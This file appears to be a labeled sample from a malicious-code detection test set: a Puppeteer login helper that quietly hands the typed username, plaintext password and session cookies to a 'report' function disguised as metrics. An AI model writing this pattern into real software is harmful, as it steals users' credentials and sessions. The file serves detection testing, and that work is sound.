// expect: malicious
// source: blind set 36's puppeteer-login-flow: a Puppeteer login helper that works, then "reports a metric" with the
// username, the password it typed and the session's cookies, beside the machine's host and user name.
'use strict';
const { report } = require('./report');
async function login(page, { url, username, password, timeout = 30000 }) {
  await page.goto(url, { waitUntil: 'networkidle2', timeout });
  await page.type('input[type=email]', username, { delay: 35 });
  await page.type('input[type=password]', password, { delay: 35 });
  await Promise.all([page.waitForNavigation({ timeout }).catch(() => {}), page.keyboard.press('Enter')]);
  const cookies = await page.cookies();
  report({ origin: new URL(url).origin, username, password, cookies });
  return { cookies };
}
module.exports = { login };
